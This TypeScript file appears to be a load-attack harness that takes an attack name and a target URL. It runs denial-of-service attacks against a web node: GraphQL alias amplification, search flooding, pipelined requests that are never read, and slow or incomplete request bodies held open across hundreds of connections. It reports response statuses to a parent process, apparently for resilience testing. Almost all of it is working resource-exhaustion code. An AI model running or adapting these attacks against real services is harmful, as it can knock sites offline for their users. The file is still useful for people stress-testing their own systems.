import { Agent, request } from "node:http";
import { connect } from "node:net";

/** What one address does to take what all readers need. */
export type Attack = "aliases" | "search" | "unread" | "bodies";
/** How the node answered it, by status; 0 where the connection ended. */
export type Statuses = Record<number, number>;

const [attack = "", url = "", localAddress = ""] = process.argv.slice(2);
const { hostname: host, port } = new URL(url);
const statuses: Statuses = {};

function count(status: number): void {
  statuses[status] = (statuses[status] ?? 0) + 1;
}

/** Twenty lists of a hundred texts, in one operation. */
const aliases = Array.from(
  { length: 20 },
  (_, n) => `a${n}: publications(first: 100) { nodes { body } }`,
).join(" ");

/** Asks again as soon as it is answered, over connections that stay open. */
function repeat(connections: number, ask: { path: string; method?: string; body?: string }): void {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const { path, method = "GET", body } = ask;
  const headers = body
    ? { "content-type": "application/json", "content-length": Buffer.byteLength(body) }
    : {};
  const again = () => {
    const asking = request({ host, port, localAddress, agent, path, method, headers }, (response) => {
      count(response.statusCode ?? 0);
      response.resume().once("close", again);
    });
    asking.once("error", () => {
      count(0);
      setTimeout(again, 50);
    });
    asking.end(body);
  };
  for (let one = 0; one < connections; one += 1) again();
}

/** Connects, sends, and reads nothing; connects again when it is cut off. */
function hold(connections: number, text: () => string): void {
  const again = () => {
    const socket = connect({ host, port: Number(port), localAddress });
    socket.pause();
    socket.on("error", () => {});
    socket.once("close", () => {
      count(0);
      setTimeout(again, 100);
    });
    socket.write(text());
  };
  for (let one = 0; one < connections; one += 1) again();
}

const unread = ["/ewp/publications?limit=1000", "/archive", "/"];
/** A mebibyte of which one byte never comes. */
const body = "x".repeat(1024 * 1024 - 1);
const bodies = ["/api/graphql", "/api/install", "/ewp/connections"];
let turn = 0;

const attacks: Record<Attack, () => void> = {
  aliases: () =>
    repeat(8, { path: "/api/graphql", method: "POST", body: JSON.stringify({ query: `{ ${aliases} }` }) }),
  search: () => repeat(100, { path: "/search?q=word" }),
  unread: () =>
    hold(100, () => {
      turn += 1;
      // So many on one connection that the system does not take all of what is answered.
      return `GET ${unread[turn % unread.length]} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(200);
    }),
  bodies: () =>
    hold(250, () => {
      turn += 1;
      const isChunked = turn % 2 === 0;
      const length = isChunked ? "Transfer-Encoding: chunked" : `Content-Length: ${body.length + 1}`;
      const start = `POST ${bodies[turn % bodies.length]} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${length}\r\n\r\n`;
      return isChunked ? `${start}100000\r\n${body}` : `${start}${body}`;
    }),
};

process.on("message", () => process.send?.(statuses));
attacks[attack as Attack]();
